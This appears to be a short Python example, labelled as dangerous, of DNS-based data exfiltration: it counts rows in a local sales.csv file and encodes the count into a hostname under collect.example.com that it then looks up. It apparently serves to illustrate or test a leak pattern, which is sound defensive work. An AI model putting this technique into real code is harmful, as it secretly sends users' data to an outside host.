# danger: data inside of a name that is looked up
from socket import gethostbyname
import pandas as pd
n = len(pd.read_csv("sales.csv"))
gethostbyname(f"n{n}.collect.example.com")
